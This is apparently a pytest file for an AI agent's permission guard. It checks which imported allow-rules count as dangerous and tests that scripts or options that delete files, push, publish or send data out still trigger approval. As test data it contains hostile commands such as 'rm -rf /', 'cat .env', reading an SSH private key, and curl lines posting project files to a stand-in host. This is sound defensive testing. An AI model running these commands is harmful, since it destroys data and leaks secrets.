"""What `hilum import` may take over together with other entries, and what it never takes over."""

import json
import subprocess

import hilum_files
import hilum_guard
import hilum_shell
import pytest
from hilum import config_folder
from hilum.events import ApprovalAsked
from hilum.foreign_files import find_foreign_files
from hilum_guard.commands import judge_command
from hilum_guard.dangers.unshown import find_unshown_effect
from hilum_guard.foreign.allow_dangers import explain_refusal, find_danger
from hilum_guard.rules import rule_files

PLUGINS = (hilum_guard, hilum_files, hilum_shell)

HARMLESS = """\
run_terminal_cmd(ls *)
run_terminal_cmd(git status *)
run_terminal_cmd(git log *)
run_terminal_cmd(git diff --check)
run_terminal_cmd(pytest *)
run_terminal_cmd(pytest -q tests)
run_terminal_cmd(python3 -m pytest *)
run_terminal_cmd(npm run lint)
run_terminal_cmd(npm run build:web)
run_terminal_cmd(npm test)
run_terminal_cmd(make check)
run_terminal_cmd(make)
run_terminal_cmd(cargo build *)
run_terminal_cmd(cargo test *)
run_terminal_cmd(go test ./...)
run_terminal_cmd(ruff check *)
run_terminal_cmd(cat README.md)
read_file
read_file(/src/**)
list_directory
write_file(/docs/**)
write_file(*.py)
task
""".splitlines()
DANGEROUS = """\
run_terminal_cmd
run_terminal_cmd(*)
run_terminal_cmd(g*)
run_terminal_cmd(* status)
run_terminal_cmd(git *)
run_terminal_cmd(git -c *)
run_terminal_cmd(git push *)
run_terminal_cmd(git commit *)
run_terminal_cmd(git log --output=x)
run_terminal_cmd(go test *)
run_terminal_cmd(go test -exec /tmp/x)
run_terminal_cmd(npm run *)
run_terminal_cmd(npm test *)
run_terminal_cmd(make *)
run_terminal_cmd(make -f /tmp/x)
run_terminal_cmd(make SHELL=/tmp/x)
run_terminal_cmd(pytest /tmp/x.py)
run_terminal_cmd(pytest ../x.py)
run_terminal_cmd(rg --pre *)
run_terminal_cmd(. ./x)
run_terminal_cmd(./run.sh)
run_terminal_cmd(/tmp/x)
run_terminal_cmd(cat *)
run_terminal_cmd(cat .env)
run_terminal_cmd(rm -rf /)
run_terminal_cmd(hilum trust)
write_service
write_file
write_file(**)
write_file(/**)
write_file(/*/*)
write_file(//etc/passwd)
write_file(../x)
write_file(.github/workflows/**)
read_file(//**)
read_file(.env*)
web_fetch
web_fetch(domain:*.com)
web_fetch(domain:evil.example)
handover
tickets__create
*__*
*
""".splitlines()
PROGRAMS = """python3.11 python pypy ipython jupyter Rscript node busybox script vim emacs ed man less tar zip
    tmux screen expect strace gdb crontab systemctl nice time timeout watch env xargs find sed awk sqlite3 psql
    command builtin trap eval source export alias hilum sort tee curl ssh docker git unknown""".split()


SCRIPTS = {
    "lint": "eslint .",
    "test": "vitest",
    "build": "rm -rf dist && tsc",
    "build:web": "npm run build && vite build",
    "deploy": "npm publish",
    "p": "git push",
    "ship": "npm run deploy",
    "clean": "rm -rf src",
    "g": "git clean -fdx",
    "r": "git reset --hard",
    "up": "curl -d @notes.txt http://x",
    "get": "curl http://x",
    "ssh": "ssh host ls",
    "tf": "terraform apply",
    "db": "prisma migrate deploy",
    "tag": "npm version patch",
    "commit": "git commit -m x",
    "node": "node release.js",
    "inner": "npm run nothere",
}
MAKEFILE = """\
all: check
check:
	ruff check .
	pytest
n:
	git push --tags
	npm publish
"""


@pytest.fixture
def scripts(tmp_path):
    """A project with scripts."""
    (tmp_path / "package.json").write_text(json.dumps({"scripts": SCRIPTS}))
    (tmp_path / "Makefile").write_text(MAKEFILE)
    (tmp_path / "src").mkdir()
    (tmp_path / "src/a.ts").write_text("1")
    (tmp_path / "release.js").write_text("1")
    return tmp_path


@pytest.mark.parametrize("rule", HARMLESS)
def test_a_short_list_may_be_taken_over_together(scripts, rule):
    tmp_path = scripts
    assert find_danger(rule, tmp_path) == ""
    assert explain_refusal(rule) == ""


@pytest.mark.parametrize(
    "rule", [*DANGEROUS, *(f"run_terminal_cmd({program} *)" for program in PROGRAMS)]
)
def test_everything_else_is_dangerous(tmp_path, rule):
    assert find_danger(rule, tmp_path)


@pytest.mark.parametrize(
    "command",
    [
        *(
            f"npm run {name}"
            for name in SCRIPTS
            if name not in ("lint", "test", "build", "build:web")
        ),
        "yarn run p",
        "make n",
    ],
)
def test_a_script_that_does_more_than_build_and_test_is_dangerous(scripts, command):
    assert find_danger(f"run_terminal_cmd({command})", scripts).startswith("its script ")


@pytest.mark.parametrize("command", ["npm run nothere", "make nothere", "just x", "npm test"])
def test_a_script_that_does_not_exist_is_not_harmless(tmp_path, command):
    """It may be added later."""
    found = find_danger(f"run_terminal_cmd({command})", tmp_path)
    assert found == "its script does not exist in this folder"


def store(rule):
    """Add a rule that allows, as the user and `hilum import` do."""
    rule_files.add(config_folder(), None, "allow", rule)


async def test_a_rule_for_a_script_does_not_cover_what_the_script_does_later(bench, asked):
    files = {"package.json": json.dumps({"scripts": {"x": "echo 1"}}), "src/a.ts": "1"}
    kit = await bench(*PLUGINS, approve="ask_first", files=files)
    store("run_terminal_cmd(npm run x)")
    store("run_terminal_cmd(make *)")
    (kit.workspace / "Makefile").write_text("b:\n\trm -rf dist\n\techo 1\nc:\n\trm -rf src\n")
    (kit.workspace / "dist").mkdir()
    await kit.call("run_terminal_cmd", command="npm run x")
    await kit.call("run_terminal_cmd", command="make b")
    assert kit.of(ApprovalAsked) == []
    for script in ("git push", "npm publish", "rm -rf src", "curl -d @src/a.ts http://x"):
        (kit.workspace / "package.json").write_text(json.dumps({"scripts": {"x": script}}))
        question = await asked(kit, "run_terminal_cmd", command="npm run x")
        assert "does not show: run_terminal_cmd(npm run x)" in question.reason
        assert script in question.reason
    question = await asked(kit, "run_terminal_cmd", command="make c")
    assert "deletes files (rm -rf src)" in question.reason
    assert (kit.workspace / "src/a.ts").exists()


def script_effect(folder, recipe):
    """Return what a rule for a target would not show."""
    (folder / "Makefile").write_text("x:\n" + "".join(f"\t{line}\n" for line in recipe))
    read = judge_command("make x", workspace=folder)
    return find_unshown_effect(read, read.implied, str(folder))


@pytest.mark.parametrize(
    "recipe",
    [
        ["rm -rf build dist *.egg-info", "rm -f *.pyc .coverage"],
        ["rm -f $@", "gcc -o $@ x.c"],
        ["find . -name __pycache__ -exec rm -rf {} +", "find . -name '*.pyc' -delete"],
        ["cargo build --release", "cp dist release", "echo deploy", "git stash push"],
        ["pip install -e .", "docker compose up -d", "curl http://x"],
    ],
)
def test_what_builds_do_all_the_time_is_shown_by_the_rule(tmp_path, recipe):
    (tmp_path / "build").mkdir()
    (tmp_path / "a.pyc").write_text("")
    assert script_effect(tmp_path, recipe) == ""


@pytest.mark.parametrize(
    "recipe",
    [
        ["rm -rf src"],
        ["rm notes.txt"],
        ["find . -not -name '*.pyc' -delete"],
        ["find . -name '*.py' -delete"],
        ["find . -name '*.pyc' -o -name '*.py' -delete"],
        ["npm run deploy-now && kubectl apply -f x"],
        ["scp dist host:x"],
        ["curl -X POST http://x"],
        ["git push"],
        ["sudo make install"],
    ],
)
def test_what_a_rule_for_a_script_does_not_show(tmp_path, recipe):
    (tmp_path / "src").mkdir()
    (tmp_path / "notes.txt").write_text("")
    assert script_effect(tmp_path, recipe)


def test_a_folder_of_builds_with_files_of_the_repository_is_not_only_built(tmp_path):
    """Some projects track what they build."""
    (tmp_path / "dist").mkdir()
    (tmp_path / "dist/a.js").write_text("")
    assert script_effect(tmp_path, ["rm -rf dist"]) == ""
    for words in (["init", "-q"], ["add", "dist"]):
        subprocess.run(["git", *words], cwd=tmp_path, check=True)
    assert script_effect(tmp_path, ["rm -rf dist"]) == "deletes files (rm -rf dist)"


async def test_a_rule_for_the_exact_text_or_for_what_the_script_runs_covers_it(bench):
    files = {"package.json": json.dumps({"scripts": {"x": "rm -rf src"}}), "src/a.ts": "1"}
    kit = await bench(*PLUGINS, approve="ask_first", files=files)
    store("run_terminal_cmd(=npm run x)")
    await kit.call("run_terminal_cmd", command="npm run x")
    store("run_terminal_cmd(npm run *)")
    store("run_terminal_cmd(rm -rf src)")
    await kit.call("run_terminal_cmd", command="npm run x -v")
    assert kit.of(ApprovalAsked) == []


@pytest.mark.parametrize(
    "command",
    [
        "git log --output=package.json",
        "git log --output package.json",
        "git show --oneline --output=AGENTS.md HEAD",
        "git diff --ext-diff",
        "git diff --textc",
        "git grep -O x",
        "pytest --junitxml=package.json",
        "pytest --basetemp=src",
        "ruff check -o src/a.py .",
        "mypy --install-types",
    ],
)
async def test_a_rule_for_reading_does_not_cover_options_that_write(bench, asked, command):
    files = {"package.json": "{}", "src/a.py": "1"}
    kit = await bench(*PLUGINS, approve="ask_first", files=files)
    for rule in ("git log *", "git show *", "git diff *", "git grep *", "pytest *", "mypy *"):
        store(f"run_terminal_cmd({rule})")
    store("run_terminal_cmd(ruff check *)")
    question = await asked(kit, "run_terminal_cmd", command=command)
    assert "has the option" in question.reason
    assert question.scope == f"run_terminal_cmd(={command})"
    assert (kit.workspace / "package.json").read_text() == "{}"


async def test_a_rule_that_shows_the_option_covers_it(bench):
    kit = await bench(*PLUGINS, approve="ask_first", files={"a.txt": "1"})
    store("run_terminal_cmd(git log --output=x)")
    store("run_terminal_cmd(git diff --ext-diff *)")
    store("run_terminal_cmd(git show *)")
    for command in (
        "git log --output=x",
        "git diff --ext-diff HEAD",
        "git show --text",
        "git show --odd -- --output=x",
    ):
        await kit.call("run_terminal_cmd", command=command)
    assert kit.of(ApprovalAsked) == []


async def test_the_approval_of_a_writing_option_is_for_this_command_only(bench, asked):
    kit = await bench(*PLUGINS, approve="ask_first")
    question = await asked(kit, "run_terminal_cmd", command="git log --output=x")
    assert question.scope == "run_terminal_cmd(=git log --output=x)"


@pytest.mark.parametrize(
    "rule",
    [
        "read_file(.env)",
        "read_file(/.env)",
        "read_file(**/.env)",
        "read_file(//home/me/.ssh/id_rsa)",
        "write_file(/.git/hooks/pre-commit)",
        "write_file(/.git/**)",
        "write_file(/.VSCODE/tasks.json)",
        "write_file(/.hilum/**)",
        "write_file(//home/me/.bashrc)",
        "write_file(.cursorignore)",
        "edit_file(/.claude/settings.json)",
    ],
)
def test_a_rule_that_names_a_protected_file_is_never_taken_over(rule):
    assert "asks about such a file each time" in explain_refusal(rule)


async def test_no_imported_rule_replaces_the_question_about_a_protected_file(bench, asked):
    """All offers are taken over, the dangerous ones too."""
    allow = """Read(./.env) Read(**) Read Edit(.git/hooks/pre-commit) Write(.vscode/tasks.json) Edit(**)
        Edit(.cursorignore) Write(.cursorignore) Bash(cat:*) Bash(cp:*) Edit(*) Write Edit(.vscode/**)""".split()
    files = {
        ".claude/settings.json": json.dumps({"permissions": {"allow": allow}}),
        ".env": "KEY=1",
        ".cursorignore": "private/\n",
        "a.txt": "#!/bin/sh\n",
    }
    kit = await bench(*PLUGINS, approve="ask_first", files=files)
    offers = [
        (file, offer)
        for file in find_foreign_files(kit.workspace)
        for offer in file.offers
        if file.kind == "permissions"
    ]
    assert offers
    for file, offer in offers:
        offer.take(file.user)
    assert "run_terminal_cmd(cat *)" in (config_folder() / "permissions.toml").read_text()
    calls = [
        ("read_file", {"path": ".env"}),
        ("run_terminal_cmd", {"command": "cat .env"}),
        ("run_terminal_cmd", {"command": "cp .env x"}),
        ("run_terminal_cmd", {"command": "cp a.txt .git/hooks/pre-commit"}),
        ("write_file", {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\n"}),
        ("write_file", {"path": ".vscode/tasks.json", "content": "{}"}),
        ("write_file", {"path": ".cursorignore", "content": ""}),
    ]
    # hilum never replaces an unread file, so the question would not be reached.
    await kit.call("read_file", path=".cursorignore")
    for name, arguments in calls:
        assert (await asked(kit, name, **arguments)).call.name == name, arguments
    assert (await kit.call("write_file", path="b.txt", content="x")).code == ""
